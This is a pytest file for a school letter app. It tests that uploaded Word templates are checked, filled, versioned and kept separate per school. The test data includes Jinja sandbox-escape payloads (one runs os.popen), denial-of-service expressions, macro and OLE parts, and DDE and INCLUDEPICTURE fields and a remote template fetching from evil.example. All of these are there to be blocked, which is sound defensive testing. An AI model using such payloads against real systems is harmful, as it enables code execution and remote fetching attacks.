"""A school's own Word template: checked before it is kept, filled in a process of its own, versioned, and given up again."""

from __future__ import annotations

import io
import zipfile

import pytest
from docx import Document
from lettering import ODD, begun, boxes, issued, of, said_in, suspended, text_of

from app.core.action import Blocked
from app.documents.apart import check_apart, fill_apart
from app.documents.checking import kept_template
from app.documents.filling import names_of_fields
from app.documents.kinds import KINDS
from app.documents.samples import must_use, sample
from app.documents.wording import own_template

SUSPENSION = KINDS["suspension"]


def word(*paragraphs: str) -> bytes:
    """A Word file of these paragraphs."""
    document, made = Document(), io.BytesIO()
    for one in paragraphs:
        document.add_paragraph(one)
    document.save(made)
    return made.getvalue()


def with_part(data: bytes, name: str, words: bytes, *, types: bytes = b"") -> bytes:
    """The same Word file with a part more, or another in its place."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(made, "w") as new:
        for one in old.namelist():
            if one != name:
                new.writestr(one, types if types and one == "[Content_Types].xml" else old.read(one))
        new.writestr(name, words)
    return made.getvalue()


def every_field(*more: str) -> bytes:
    return word("School's own words.", *(f"{{{{ {one} }}}}" for one in must_use(SUSPENSION)), *more)


def checked(data: bytes, name: str = "ours.docx") -> list[str]:
    return check_apart(data, name, names_of_fields(SUSPENSION), must_use(SUSPENSION), sample(SUSPENSION, "S"))


def test_the_products_own_templates_pass_their_own_check():
    for kind in KINDS.values():
        data = own_template(kind.title, kind.body)
        found = kept_template(data, "own.docx", names_of_fields(kind), must_use(kind), sample(kind, "S"))
        assert set(must_use(kind)) <= {one.removesuffix("_value") for one in found} | set(found), kind.key


@pytest.mark.parametrize(
    "escape",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ subject_name.__init__.__globals__ }}",
        "{% for one in ().__class__.__base__.__subclasses__() %}{{ one }}{% endfor %}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ lipsum.__globals__ }}",
        "{{ subject_name | attr('__class__') }}",
        "{{ subject_name | safe }}",
        "{% autoescape false %}{{ subject_name }}{% endautoescape %}",
        "{% include 'x' %}",
        "{{ range(3) }}",
    ],
)
def test_a_template_does_not_get_out_of_its_sandbox(escape):
    with pytest.raises(Blocked):
        checked(every_field(escape))


@pytest.mark.parametrize("greedy", ["{{ 'a' * 10**10 }}", "{% for i in range(10**9) %}x{% endfor %}", "{{ 7 ** (7 ** (7 ** 7)) }}"])
def test_a_template_that_asks_for_too_much_is_ended(greedy):
    with pytest.raises(Blocked):
        checked(every_field(greedy))


def test_unknown_and_left_out_fields_are_listed_in_a_sentence():
    with pytest.raises(Blocked, match="merge fields that this letter does not know: nonsense, zodiac"):
        checked(every_field("{{ zodiac }} {{ nonsense }}"))
    with pytest.raises(Blocked, match=r"leaves out what this letter must say: .*contact_name"):
        checked(word("{{ subject_name }}"))
    with pytest.raises(Blocked, match="Put it right in Word"):
        checked(every_field("{% if subject_name %}"))


def test_macros_objects_and_what_is_fetched_from_elsewhere_are_refused():
    good = every_field()
    assert "contact_name" in checked(good)
    with pytest.raises(Blocked, match="macros"):
        checked(with_part(good, "word/vbaProject.bin", b"x"))
    types = zipfile.ZipFile(io.BytesIO(good)).read("[Content_Types].xml")
    macro = types.replace(
        b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", b"vnd.ms-word.document.macroEnabled.main+xml"
    )
    with pytest.raises(Blocked, match="macros"):
        checked(with_part(good, "word/extra.xml", b"<a/>", types=macro))
    with pytest.raises(Blocked, match="embedded object"):
        checked(with_part(good, "word/embeddings/oleObject1.bin", b"x"))
    away = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    with pytest.raises(Blocked, match="fetches a picture or a template"):
        checked(with_part(good, "word/_rels/settings.xml.rels", away))
    body = zipfile.ZipFile(io.BytesIO(good)).read("word/document.xml")
    for field in (
        b'<w:p><w:fldSimple w:instr="DDEAUTO c:\\x.exe"/></w:p>',
        b"<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO x</w:instrText></w:r></w:p>",
        b"<w:p><w:r><w:instrText> includepicture http://evil.example/x </w:instrText></w:r></w:p>",
    ):
        with pytest.raises(Blocked, match="Word field that fetches"):
            checked(with_part(good, "word/document.xml", body.replace(b"<w:body>", b"<w:body>" + field)))
    bomb = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    with pytest.raises(Blocked, match="entities"):
        checked(with_part(good, "word/extra.xml", bomb))
    for data, said in ((b"%PDF-1.7", "no Word document"), (b"PK\x03\x04", "damaged"), (b"PK\x03\x04" + b"0" * 2_000_000, "1 MB")):
        with pytest.raises(Blocked, match=said):
            checked(data)


def test_the_schools_own_template_is_used_versioned_and_given_up(sign_in, world, app):
    suspended(app, world)
    adviser, head = sign_in("Ruth Okafor"), sign_in("Helen Ashworth")
    address = "/letter-templates/suspension"
    refused = head.send(address, file=(io.BytesIO(every_field("{{ zodiac }}")), "ours.docx"))
    assert refused.status_code == 409
    assert "does not know: zodiac" in refused.get_data(as_text=True)
    head.passed(address, 0, file=(io.BytesIO(every_field("Our own ending: {{ signed_name }}")), "ours.docx"))
    page = head.get(address).get_data(as_text=True)
    assert "own template is in use" in page
    assert "Version 1" in page
    assert "School's own words." in head.get(f"{address}/preview").get_data(as_text=True).replace("&#39;", "'")
    where = begun(head, of(world, "Callum Reyes"), "suspension")
    issued(head, where, **boxes())
    said = said_in(head.get(f"{where}/word").get_data())
    assert "Our own ending: Helen Ashworth" in said
    assert ODD in said
    assert "Our own ending: Helen Ashworth" in text_of(head.get(f"{where}/pdf").get_data())
    assert "own, version 1" in head.get(where).get_data(as_text=True)
    assert "word/document.xml" in zipfile.ZipFile(io.BytesIO(adviser.get(f"{address}/word").get_data())).namelist()
    assert head.send(f"{address}/own", page=address).status_code == 303
    assert "Version 2" in head.get(address).get_data(as_text=True)
    again = begun(head, of(world, "Callum Reyes"), "suspension")
    issued(head, again, **boxes())
    assert "neutral act" in text_of(head.get(f"{again}/pdf").get_data())
    assert "Our own ending" in text_of(head.get(f"{where}/pdf").get_data())
    assert sign_in("Marcus Vale").get(address).get_data(as_text=True).count("Version") == 0
    lead, letters = sign_in("Amina Yusuf"), f"/cases/{of(world, 'Callum Reyes')}/letters"
    assert lead.send(address, page=letters, file=(io.BytesIO(every_field()), "x.docx")).status_code == 404
    assert sign_in("Laura Fenwick").get(address).status_code == 404


def test_an_adviser_of_several_schools_keeps_the_template_of_each_apart(sign_in, world):
    adviser = sign_in("Ruth Okafor")
    second = world["schools"]["Saltholme High School"]
    page = adviser.get("/letter-templates").get_data(as_text=True)
    assert second in page
    adviser.passed(
        f"/letter-templates/hearing?school={second}", 0, file=(io.BytesIO(own_template("H", KINDS["hearing"].body)), "h.docx")
    )
    assert "Version 1" in adviser.get(f"/letter-templates/hearing?school={second}").get_data(as_text=True)
    assert "Version 1" not in adviser.get("/letter-templates/hearing").get_data(as_text=True)
    assert "Version 1" in sign_in("Marcus Vale").get("/letter-templates/hearing").get_data(as_text=True)
    assert sign_in("Helen Ashworth").get(f"/letter-templates/hearing?school={second}").status_code == 404


def test_a_name_with_marks_is_kept_in_both_files():
    values = {**sample(SUSPENSION, "A & B <School>"), "subject_name": ODD, "reasons": "One\r\n\r\ntwo\x00\x0b three"}
    made, words = fill_apart(own_template(SUSPENSION.title, SUSPENSION.body), values)
    assert ODD in said_in(made)
    assert "two three" in said_in(made)
    assert any(one["text"] == "One" for one in words if one["kind"] == "text")
